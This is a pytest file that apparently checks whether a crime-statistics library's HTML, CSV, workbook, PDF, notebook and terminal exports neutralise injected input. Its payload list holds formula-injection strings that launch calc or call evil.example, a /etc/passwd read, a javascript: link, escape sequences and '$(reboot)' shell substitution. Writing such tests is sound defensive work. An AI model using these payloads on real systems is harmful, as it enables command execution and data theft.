"""Each payload through each way out, alone: nothing runs, nothing is loaded, and numbers stay numbers."""

from __future__ import annotations

import ast
import ctypes
from collections.abc import Iterator
from pathlib import Path

import openpyxl
import pandas as pd
import pytest
from nbformat.v4 import new_code_cell, new_markdown_cell, new_notebook, new_output
from test_pages_in_chromium import LIVE, PAYLOADS, SVG, TABLE, visit
from toy_pack import summary_rows

from crimelib.errors import InputError
from crimelib.production.exports import write_csv
from crimelib.production.pages import PackInfo, Page, render_page
from crimelib.production.pdf import board_pdf
from crimelib.production.portable import CHART_TYPE
from crimelib.production.terminal import print_summary
from crimelib.production.workbook import write_workbook
from crimelib.settings import load_settings

ALL = [
    *PAYLOADS,
    "=1+1",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)",
    '=HYPERLINK("http://evil.example/x","click")',
    '=WEBSERVICE("http://evil.example/x")',
    "\t=1+1",
    " =DDE(1)",
    '#read("/etc/passwd")',
    '#link("javascript:window.pwned=1")[click]',
    "\x1b]0;title\x07\x1b[31mred",
    "\x9b31mred",
    "\u202eyelmorB",
    '"\nimport os\nos.abort()\n"',
    "${HOME}`reboot`$(reboot)",
    "{period}/../../../etc",
]
INFO = PackInfo("Bromley", "November 2021", "board", False, (("Code", "crimelib"),))
FIGURES = {
    "window": "rolling_12",
    "current": 594,
    "previous": 600,
    "change": -6,
    "pct_change": -1.0,
    "status": "ok",
    "signal": "decrease",
}


def every_fifth_in_make_test() -> list:
    return [
        pytest.param(text, id=str(number), marks=[pytest.mark.long] if number % 5 else [])
        for number, text in enumerate(ALL)
    ]


payloads = pytest.mark.parametrize("payload", every_fifth_in_make_test())


def notebook(payload: str):
    """A payload in every place of a notebook that a page shows."""
    chart = {CHART_TYPE: {"title": payload, "alt": payload}, "image/svg+xml": SVG}
    row = TABLE.format(f"<tr><th>{payload}</th><td>-6</td></tr>")
    outputs = [
        new_output("stream", name="stdout", text=payload),
        *(new_output("display_data", {kind: payload}) for kind in ("text/html", "text/markdown", "text/plain")),
        new_output("display_data", {"text/html": row}),
        new_output("display_data", chart),
    ]
    cells = [new_markdown_cell(f"# Burglary\n\n{payload}"), new_code_cell(payload, outputs=outputs)]
    return new_notebook(cells=cells)


def test_there_are_forty() -> None:
    assert len(set(ALL)) == 40


@pytest.mark.browser
@payloads
def test_a_page_stays_dead(browser, tmp_path: Path, payload: str) -> None:
    page = Page("burglary", "Burglary", "")
    path = tmp_path / "burglary.html"
    path.write_text(render_page(notebook(payload), page, [page], INFO), encoding="utf-8")
    shown, asked = visit(browser, path, bypass_csp=True)
    assert asked == []
    assert shown.evaluate("window.pwned") is None
    assert shown.locator(LIVE).count() == 0
    names = shown.evaluate("[...document.querySelectorAll('*')].flatMap(e => [...e.attributes].map(a => a.name))")
    assert not [name for name in names if name.startswith("on")]
    assert "javascript:" not in shown.evaluate("[...document.querySelectorAll('a')].map(a => a.protocol)")
    assert "Content-Security-Policy" in path.read_text(encoding="utf-8")
    shown.context.close()


@payloads
def test_a_notebook_takes_it_as_a_text_and_never_as_code(payload: str) -> None:
    from papermill.parameterize import parameterize_notebook

    made = new_notebook(cells=[new_code_cell("area = ''", metadata={"tags": ["parameters"]})])
    python = {"name": "python3", "language": "python", "display_name": "Python 3"}
    made.metadata.update(kernelspec=python, papermill={})
    cells = parameterize_notebook(made, {"area": payload}).cells
    (injected,) = [cell for cell in cells if "injected-parameters" in cell.metadata.get("tags", [])]
    (statement,) = ast.parse(injected.source).body
    assert isinstance(statement, ast.Assign)
    assert ast.literal_eval(statement.value) == payload


@payloads
def test_a_csv_holds_no_formula_and_its_numbers_are_numbers(tmp_path: Path, payload: str) -> None:
    write_csv(pd.DataFrame({payload: [payload], "change": [-6]}), tmp_path / "a.csv")
    back = pd.read_csv(tmp_path / "a.csv", keep_default_na=False)
    (text, change), heading = back.iloc[0], back.columns[0]
    assert change == -6
    assert not {text.lstrip()[:1], heading.lstrip()[:1]} & {"=", "+", "-", "@"}
    assert payload.replace("\r", "\n") in (text, text[1:])


@payloads
def test_a_workbook_holds_no_formula_and_no_link(tmp_path: Path, payload: str) -> None:
    rows = summary_rows({"item": "burglary", "measure": "burglary", "note": payload, **FIGURES})
    names = {"item/burglary": payload, "burglary": payload}
    write_workbook(rows, tmp_path / "a.xlsx", INFO, names, names)
    book = openpyxl.load_workbook(tmp_path / "a.xlsx")
    cells = [cell for sheet in book for line in sheet.iter_rows() for cell in line if cell.value is not None]
    assert not [cell.value for cell in cells if cell.data_type == "f"]
    assert not [cell.hyperlink.target for cell in cells if cell.hyperlink and cell.hyperlink.target]
    assert -6 in [cell.value for cell in cells if cell.data_type == "n"]


@payloads
def test_a_pdf_has_no_script_and_no_link_that_runs(payload: str) -> None:
    import pypdfium2
    import pypdfium2.raw as raw

    page = Page("burglary", "Burglary", "")
    document = pypdfium2.PdfDocument(board_pdf([notebook(payload)], [page], INFO, payload))
    assert raw.FPDFDoc_GetJavaScriptActionCount(document) == 0
    assert raw.FPDFDoc_GetAttachmentCount(document) == 0
    text = "".join(each.get_textpage().get_text_range() for each in document)
    assert "root:" not in text
    assert not [address for each in document for address in addresses(document, each) if not is_plain(address)]


def addresses(document, page) -> Iterator[str]:
    """Where the links of a page lead that leave the document; one that starts a program is told as such."""
    import pypdfium2.raw as raw

    place, link = ctypes.c_int(0), raw.FPDF_LINK()
    while raw.FPDFLink_Enumerate(page, place, link):
        action = raw.FPDFLink_GetAction(link)
        kind = raw.FPDFAction_GetType(action) if action else 0
        if kind == raw.PDFACTION_URI:
            size = raw.FPDFAction_GetURIPath(document, action, None, 0)
            text = ctypes.create_string_buffer(size)
            raw.FPDFAction_GetURIPath(document, action, text, size)
            yield text.value.decode(errors="replace")
        elif kind in (raw.PDFACTION_LAUNCH, raw.PDFACTION_REMOTEGOTO):
            yield "launch:"


def is_plain(address: str) -> bool:
    return address.lower().startswith(("http://", "https://", "mailto:"))


@payloads
def test_a_terminal_gets_no_control_characters(payload: str, capsys: pytest.CaptureFixture[str]) -> None:
    rows = summary_rows({"item": "burglary", "measure": "burglary", **FIGURES}).assign(area_name=payload)
    print_summary(rows, load_settings(), illustrative=False)
    out = capsys.readouterr().out
    assert not [char for char in out if not (char.isprintable() or char == "\n")]
    assert str(InputError(payload, where=payload, fix=payload)).isprintable()
